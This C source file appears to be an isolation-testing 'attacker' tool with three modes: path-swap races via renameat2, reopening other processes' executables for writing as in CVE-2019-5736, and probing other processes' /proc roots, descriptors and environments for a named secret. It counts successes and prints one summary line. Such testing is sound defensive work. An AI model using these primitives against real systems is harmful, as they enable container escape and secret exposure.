/* SPDX-License-Identifier: Apache-2.0 */
/*
 * An attacker who is as fast as he can be, until he is asked to end (SIGTERM, SIGINT); then he
 * prints one line with what he has done. For the host and, linked statically, for containers.
 *
 * racer swap A B: exchanges what the two names are of.    "N swaps"
 * racer write: opens what others execute, for writing.    "N programs, N opened for writing"
 * racer look SECRET: looks for a file, or a variable of that name, by way of others' descriptors,
 * roots, directories and environments.                    "N processes, N secrets"
 *
 * "Others" are the processes in /proc but the first and himself.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define REOPENINGS 300 /* of one program: until it is no longer executed */

static volatile sig_atomic_t is_over;

static void end(int sig)
{
	is_over = 1;
}

/* Where names cannot be exchanged (9p), by a third one. */
static bool exchange_slowly(const char *a, const char *b)
{
	char spare[4096];

	(void)snprintf(spare, sizeof(spare), "%s.spare", a);
	return rename(a, spare) == 0 && rename(b, a) == 0 && rename(spare, b) == 0;
}

/* False as well while somebody else has taken one of them away. */
static bool exchange(const char *a, const char *b)
{
	if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
		return true;
	return (errno == EINVAL || errno == EOPNOTSUPP) && exchange_slowly(a, b);
}

static int swap(char **args)
{
	long count = 0;

	while (!is_over)
		count += exchange(args[0], args[1]);
	printf("%ld swaps\n", count);
	return 0;
}

/* Calls @visit with the descriptor of each other process's directory. */
static void visit_others(void (*visit)(int dirfd, void *ctx), void *ctx)
{
	DIR *dir = opendir("/proc");
	struct dirent *entry;

	while (dir && (entry = readdir(dir))) {
		char own[32];
		int fd;

		(void)snprintf(own, sizeof(own), "%d", (int)getpid());
		if (!isdigit((unsigned char)*entry->d_name) || strcmp(entry->d_name, "1") == 0 ||
		    strcmp(entry->d_name, own) == 0)
			continue;
		fd = openat(dirfd(dir), entry->d_name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (fd < 0)
			continue;
		visit(fd, ctx);
		close(fd);
	}
	if (dir)
		closedir(dir);
}

struct writes {
	long programs, opened;
};

/* As in CVE-2019-5736: a program can be written once nobody executes it any more, and the
 * descriptor keeps it until then. */
static void write_program(int dirfd, void *ctx)
{
	struct writes *writes = ctx;
	int program = openat(dirfd, "exe", O_PATH | O_CLOEXEC);
	char path[64];

	if (program < 0)
		return;
	writes->programs++;
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", program);
	for (int i = 0; i < REOPENINGS && !is_over; i++) {
		int fd = open(path, O_WRONLY | O_CLOEXEC);

		if (fd < 0 && errno == ETXTBSY)
			continue;
		if (fd < 0)
			break;
		writes->opened++;
		close(fd);
		break;
	}
	close(program);
}

static int write_programs(char **args)
{
	struct writes writes = { 0 };

	while (!is_over)
		visit_others(write_program, &writes);
	printf("%ld programs, %ld opened for writing\n", writes.programs, writes.opened);
	return 0;
}

struct looks {
	const char *secret; /* absolute */
	long processes, secrets;
};

static void look_for(struct looks *looks, int dirfd, const char *path)
{
	int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);

	if (fd < 0)
		return;
	looks->secrets++;
	close(fd);
}

static void look_through_descriptors(struct looks *looks, int dirfd)
{
	int fds = openat(dirfd, "fd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	DIR *dir = fds < 0 ? NULL : fdopendir(fds);
	const char *name = strrchr(looks->secret, '/');
	struct dirent *entry;
	char path[4096];

	while (dir && (entry = readdir(dir))) {
		if (!isdigit((unsigned char)*entry->d_name))
			continue;
		(void)snprintf(path, sizeof(path), "%s%s", entry->d_name, looks->secret);
		look_for(looks, fds, path);
		(void)snprintf(path, sizeof(path), "%s%s", entry->d_name, name);
		look_for(looks, fds, path);
	}
	if (dir)
		closedir(dir);
}

static void look_into_environment(struct looks *looks, int dirfd)
{
	int fd = openat(dirfd, "environ", O_RDONLY | O_CLOEXEC);
	static char text[65536];
	ssize_t n;

	if (fd < 0)
		return;
	n = read(fd, text, sizeof(text));
	if (n > 0 && memmem(text, (size_t)n, looks->secret, strlen(looks->secret)))
		looks->secrets++;
	close(fd);
}

static void look_into(int dirfd, void *ctx)
{
	struct looks *looks = ctx;
	char path[4096];

	looks->processes++;
	(void)snprintf(path, sizeof(path), "root%s", looks->secret);
	look_for(looks, dirfd, path);
	(void)snprintf(path, sizeof(path), "cwd%s", strrchr(looks->secret, '/'));
	look_for(looks, dirfd, path);
	look_through_descriptors(looks, dirfd);
	look_into_environment(looks, dirfd);
}

static int look(char **args)
{
	struct looks looks = { .secret = args[0] };

	while (!is_over)
		visit_others(look_into, &looks);
	printf("%ld processes, %ld secrets\n", looks.processes, looks.secrets);
	return 0;
}

static const struct {
	const char *name;
	int args;
	int (*run)(char **args);
} deeds[] = {
	{ "swap", 2, swap },
	{ "write", 0, write_programs },
	{ "look", 1, look },
};

int main(int argc, char **argv)
{
	(void)signal(SIGTERM, end);
	(void)signal(SIGINT, end);
	for (size_t i = 0; i < sizeof(deeds) / sizeof(*deeds); i++)
		if (argc == deeds[i].args + 2 && strcmp(argv[1], deeds[i].name) == 0)
			return deeds[i].run(argv + 2);
	fprintf(stderr, "usage: racer swap A B | write | look SECRET\n");
	return 2;
}
